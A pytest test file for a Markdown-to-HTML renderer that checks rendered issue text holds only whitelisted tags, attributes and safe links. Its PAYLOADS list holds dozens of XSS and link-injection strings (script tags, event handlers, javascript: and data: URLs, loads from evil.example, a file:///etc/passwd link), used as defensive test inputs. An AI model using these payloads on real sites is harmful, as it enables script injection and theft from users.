"""An issue's Markdown becomes HTML that shows everything and does nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from issues_kb.markdown.highlighting import MAX_CODE, highlight, highlight_css
from issues_kb.markdown.html import (
    Anchors,
    Html,
    Mark,
    Mention,
    Setting,
    definitions,
    plain_text,
    render_blocks,
    render_inline,
    render_title,
    visible,
)

# What our HTML may hold; anything else would have come from the text.
TAGS = {
    *("a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr"),
    *("li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead"),
    *("tr", "ul"),
}
ATTRIBUTES = {
    *("aria-label", "class", "data-language", "href", "id", "rel", "role", "start"),
    *("tabindex", "title"),
}
SAFE_HREF = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)


class Elements(HTMLParser):
    """Every element of a piece of HTML, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        if "href" in attributes:
            assert SAFE_HREF.match(attributes["href"] or ""), attributes


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</p></div></main></body><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onmouseover=alert(1)\nx\n```",
    "``` '\"><img src=x onerror=alert(1)>\nx\n```",
    "~~~<b>\nx\n~~~",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](filesystem:http://example.org/1)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example)",
    "[x](../../../../etc/passwd)",
    "[x](https:evil)",
    "[x](http:///evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1) \\" style=x")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![" onerror="alert(1)](x.png)',
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[<script>alert(1)</script>](https://a.example)",
    "# <img src=x onerror=alert(1)>",
    "# x {#id onclick=alert(1)}",
    "| <script>alert(1)</script> | b |\n|:-:|---|\n| <img src=x onerror=alert(1)> | c |",
    "- [ ] <script>alert(1)</script>",
    "- [x](javascript:alert(1))",
    "> <script>\n> alert(1)\n> </script>",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/'onmouseover='alert(1)",
    "javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "``` js\nlet a = '</script><script>alert(1)</script>'\n```",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u202eipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_from_a_text_becomes_active(payload: str) -> None:
    assert_harmless(render_blocks(payload, Setting(anchors=Anchors())))
    assert_harmless(render_blocks(f"- a\n  1. {payload}\n"))
    assert_harmless(render_inline(payload))
    assert_harmless(render_title(payload))


PIECES = [*"<>&\"'`*_[]()!#|-~:/\\ \n\tax1", "\x00", "\u202e", "http://", "javascript:", "```"]


@given(st.lists(st.sampled_from(PIECES)).map("".join))
@example("[a](\n<b>)")
@example("![a]\n\n[a]: <>")
def test_any_text_becomes_harmless_html(text: str) -> None:
    assert_harmless(render_blocks(text, Setting(anchors=Anchors())))
    assert_harmless(render_inline(text))
    assert_harmless(render_title(text))


@given(st.text(st.characters(categories=["L", "N"]), min_size=1))
def test_every_word_is_still_there(word: str) -> None:
    for text in (word, f"# {word}", f"- {word}", f"```{word}\n{word}\n```", f"[{word}](x.md)"):
        assert word in Elements(render_blocks(text)).text


def test_raw_html_is_shown_as_text() -> None:
    assert render_blocks("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_an_external_link_tells_nothing_about_where_it_was() -> None:
    assert render_inline("[a](https://x.example)") == (
        '<a href="https://x.example" rel="noopener noreferrer">a</a>'
    )


@pytest.mark.parametrize(
    ("text", "words", "address"),
    [
        ("see https://x.example/a.", "https://x.example/a", "https://x.example/a"),
        ("(https://x.example/a)", "https://x.example/a", "https://x.example/a"),
        ("https://x.example/a_(b)", "https://x.example/a_(b)", "https://x.example/a_(b)"),
        ("**https://x.example**", "https://x.example", "https://x.example"),
        ("见 https://x.example/路。", "https://x.example/路", "https://x.example/%E8%B7%AF"),
        ("<https://x.example?a=1&b=2>", "https://x.example?a=1&amp;b=2", None),
    ],
)
def test_a_bare_address_is_a_link(text: str, words: str, address: str | None) -> None:
    assert f'<a href="{address or words}" rel="noopener noreferrer">{words}</a>' in (
        render_inline(text)
    )


def test_a_link_into_the_repository_shows_where_it_leads() -> None:
    assert render_inline("[model](../src/Badge.ts)") == (
        '<span class="target">model <code>../src/Badge.ts</code></span>'
    )
    assert render_inline("[a.md](a.md)") == '<span class="target">a.md</span>'


def test_an_image_is_a_link_to_it() -> None:
    assert render_inline("![shot](https://x.example/a.png)") == (
        '<a href="https://x.example/a.png" rel="noopener noreferrer">Image: shot</a>'
    )
    assert render_inline("![shot](a.png)") == "Image: shot <code>a.png</code>"


def test_links_do_not_nest() -> None:
    html = render_inline("[![shot](https://x.example/a.png)](https://y.example)")
    assert html.count("<a ") == 1
    assert "https://x.example/a.png" in html


def test_a_title_holds_no_link() -> None:
    assert render_title("`a` [b](https://x.example) https://y.example") == (
        '<code>a</code> <span class="target">b</span> https://y.example'
    )


def test_headings_start_where_the_page_wants_and_leave_no_level_out() -> None:
    html = render_blocks("#### a\n###### b\n#### c\n# d\n", Setting(first_level=3))
    assert re.findall(r"<(h\d)>(\w)", html) == [
        *[("h3", "a"), ("h4", "b"), ("h3", "c"), ("h3", "d")]
    ]


def test_ids_of_headings_are_stable_and_unique() -> None:
    html = render_blocks("# Root Cause\n# Root *Cause*\n# 根因\n# é\n", Setting(anchors=Anchors()))
    assert re.findall(r'id="([^"]+)"', html) == [
        "issue-root-cause",
        "issue-root-cause-2",
        "issue-根因",
        "issue-é",
    ]


def test_many_equal_headings_are_cheap() -> None:
    html = render_blocks("# a\n" * 3000, Setting(anchors=Anchors()))
    assert 'id="issue-a-3000"' in html


def test_a_mention_is_a_link_on_its_line_only() -> None:
    text = "see #2\n\nnot #2\n\n`#2` #2 #22 [#2](x)"
    html = render_blocks(
        text, Setting(mentions=[Mention("#2", "2.html", 1), Mention("#2", "2.html", 5)])
    )
    assert html == (
        '<p>see <a href="2.html">#2</a></p>\n<p>not #2</p>\n'
        '<p><code>#2</code> <a href="2.html">#2</a> #22 '
        '<span class="target">#2 <code>x</code></span></p>\n'
    )


def test_a_mark_gives_an_item_its_id() -> None:
    text = "1. topic\n   - one\n   - two"
    html = render_blocks(text, Setting(marks=[Mark(3, "learning-1", "rule-do")]))
    assert '<li id="learning-1" class="rule-do">two</li>' in html


def test_tasks_show_their_state_without_a_form() -> None:
    html = render_blocks("- [ ] a\n- [X] b\n- [y] c\n- [x](y)")
    assert html.count('aria-label="to do"') == 1
    assert html.count('aria-label="done"') == 1
    assert "[y] c" in html
    assert "<input" not in html


def test_lines_that_start_with_a_label_stay_lines() -> None:
    html = render_blocks("**Date:** a\n**Status:** b\nFixed in: c\nplain\ntext")
    assert html.count("<br />") == 2


def test_a_table_scrolls_and_carries_no_style() -> None:
    html = render_blocks("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert 'class="align-right"' in html
    assert "style=" not in html
    assert html.startswith('<div class="scroll" tabindex="0"')


def test_code_is_highlighted_by_its_language() -> None:
    html = render_blocks("```python\ndef f(): pass\n```")
    assert '<span class="hl-k">def</span>' in html
    assert 'data-language="python"' in html


@pytest.mark.parametrize(
    "language", ["", "no-such-language", "x" * 5000, "{.python", "\x00", "../x"]
)
def test_code_of_an_unknown_language_is_plain(language: str) -> None:
    assert highlight("<a> & b", language) == "&lt;a&gt; &amp; b"


def test_a_huge_block_of_code_is_plain() -> None:
    code = "x = 1\n" * (MAX_CODE // 6 + 1)
    assert highlight(code, "python") == code


def test_deep_quotes_keep_their_text() -> None:
    assert "deepest" in render_blocks("> " * 60 + "deepest")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\x00b", "a␀b"),
        ("\x1b[31mred", "␛[31mred"),
        ("\x7f", "␡"),
        ("admin\u202enimda", "admin[U+202E]nimda"),
        ("\u2066x\u2069", "[U+2066]x[U+2069]"),
        ("\x85\x9f", "��"),
        ("\ud800", "�"),
        ("\uffff\ufdd0\U0001fffe", "���"),
        ("tab\tline\n", "tab\tline\n"),
        ("שלום\u200f עולם 👩‍💻", "שלום\u200f עולם 👩‍💻"),
    ],
)
def test_hidden_characters_are_made_visible(raw: str, shown: str) -> None:
    assert visible(raw) == shown


def test_link_definitions_of_another_part_work() -> None:
    text = "## a\n[x][ref]\n\n## b\n[ref]: https://x.example 'title'\n"
    defined = definitions(text)
    assert defined == "[ref]: https://x.example 'title'"
    assert 'href="https://x.example"' in render_blocks("[x][ref]", Setting(defined=defined))


def test_a_title_in_plain_words_has_no_marks() -> None:
    assert plain_text("**Fix** `a_b` for [x](y) &amp;\n~~old~~ <b>") == "Fix a_b for x & old <b>"


def test_html_is_known_as_html_by_templates() -> None:
    made = render_inline("<b>")
    assert isinstance(made, Html)
    assert made.__html__() == "&lt;b&gt;"


def luminance(colour: str) -> float:
    parts = [int(colour[index : index + 2], 16) / 255 for index in (1, 3, 5)]
    red, green, blue = (p / 12.92 if p <= 0.03928 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    lighter, darker = sorted((luminance(one), luminance(other)), reverse=True)
    return (lighter + 0.05) / (darker + 0.05)


def test_colours_of_code_are_legible() -> None:
    light, dark = highlight_css().split("}", 1)
    for sheet, background in ((light, "#f5f5f2"), (dark.split("}", 1)[0], "#1d2024")):
        colours = re.findall(r":(#[0-9a-fA-F]{6})", sheet)
        assert len(colours) > 5
        for colour in colours:
            assert contrast(colour, background) >= 4.5, (colour, background)
